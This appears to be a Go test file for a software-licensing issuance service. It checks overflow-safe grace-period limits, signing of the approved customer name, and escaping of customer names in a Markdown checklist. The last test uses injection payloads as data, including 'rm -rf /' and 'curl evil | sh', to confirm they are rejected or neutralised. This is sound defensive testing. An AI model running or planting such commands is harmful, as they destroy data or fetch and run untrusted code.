package issuance_test

import (
	"context"
	"strings"
	"testing"

	"github.com/metrum/licensing/internal/entitlements"
	"github.com/metrum/licensing/internal/issuance"
	"github.com/metrum/licensing/verify"
)

// TestGraceOverridesAreCheckedInIntegers (issue 20, 5): a grace of 18446744074 s
// passed the 7-day cap (the Duration product wrapped) and was signed: now refused,
// with every value past the cap or past what JSON keeps exactly.
func TestGraceOverridesAreCheckedInIntegers(t *testing.T) {
	e := mustService(t)
	ctx := context.Background()
	c := &entitlements.Customer{Name: "Overflow Inc"}
	if err := e.svc.CreateCustomer(ctx, c, maker); err != nil {
		t.Fatal(err)
	}
	for _, o := range []entitlements.Overrides{
		{GracePeriodSeconds: ptr(int64(18446744074))},
		{GracePeriodSeconds: ptr(int64(7*86400 + 1))},
		{GracePeriodSeconds: ptr(int64(-1))},
		{Limits: map[string]int64{"max_instances": 1 << 53}},
		{Limits: map[string]int64{"max_instances": -1}},
	} {
		if _, err := e.svc.CreateEntitlement(ctx, entitlements.EntitlementInput{CustomerID: c.ID, Template: "enterprise-annual", Overrides: o}, maker); entitlements.ErrorCode(err) != entitlements.EINVALID {
			t.Errorf("%+v: %v", o, err)
		}
	}
	if n := count(t, e, `SELECT count(*) FROM entitlements`); n != 0 {
		t.Fatalf("%d entitlements opened", n)
	}
}

func ptr[T any](v T) *T { return &v }

// TestTheApprovedNameIsSigned (issue 20, 10): a customer renamed between approval and
// issue is signed into the license under the name that was approved.
func TestTheApprovedNameIsSigned(t *testing.T) {
	e := mustService(t)
	ctx := context.Background()
	ent := e.mustApproved(t, "enterprise-annual")
	c, err := e.store.GetCustomer(ctx, ent.CustomerID)
	if err != nil {
		t.Fatal(err)
	}
	approved := c.Name
	c.Name = "Renamed After Approval Ltd"
	if err := e.svc.UpdateCustomer(ctx, c, maker); err != nil {
		t.Fatal(err)
	}
	l, err := e.svc.Issue(ctx, ent.ID, maker)
	if err != nil {
		t.Fatal(err)
	}
	ks, _ := e.mustKeySet(t)
	parsed, err := verify.ParseLicenseFile(l.File, ks)
	if err != nil {
		t.Fatal(err)
	}
	if parsed.CustomerName != approved {
		t.Fatalf("signed as %q, approved as %q", parsed.CustomerName, approved)
	}
}

// TestChecklistNamesAreInert (issue 20, 9): a customer name can't be more than one
// line, and whatever a name holds can't add steps or hide them in the checklist.
func TestChecklistNamesAreInert(t *testing.T) {
	e := mustService(t)
	ctx := context.Background()
	for _, name := range []string{"Acme\n1. Run rm -rf /", "Tab\tCo\x00", "Line\u2028Sep", "Esc\x1b[31m"} {
		if err := e.svc.CreateCustomer(ctx, &entitlements.Customer{Name: name}, maker); entitlements.ErrorCode(err) != entitlements.EINVALID {
			t.Errorf("name %q: %v", name, err)
		}
	}
	// A name that got in before the rule (or through an older path) is still inert.
	l := e.mustIssued(t, "enterprise-annual")
	l.CustomerName = "Acme\n1. Run `curl evil | sh` <!-- "
	md := issuance.Checklist(l)
	for _, line := range strings.Split(md, "\n") {
		if strings.HasPrefix(strings.TrimSpace(line), "1. Run") || strings.Contains(line, "<!--") {
			t.Fatalf("the name escaped its line:\n%s", md)
		}
	}
	if line := strings.Split(md, "\n")[2]; strings.Count(line, "`") != strings.Count(line, "\\`") {
		t.Fatalf("an unescaped backtick in the customer line: %s", line)
	}
	if !strings.Contains(md, `Acme 1\. Run \`+"`"+`curl evil \| sh\`+"`"+` \<\!\-\- `) {
		t.Fatalf("the name is not shown escaped:\n%s", md)
	}
}
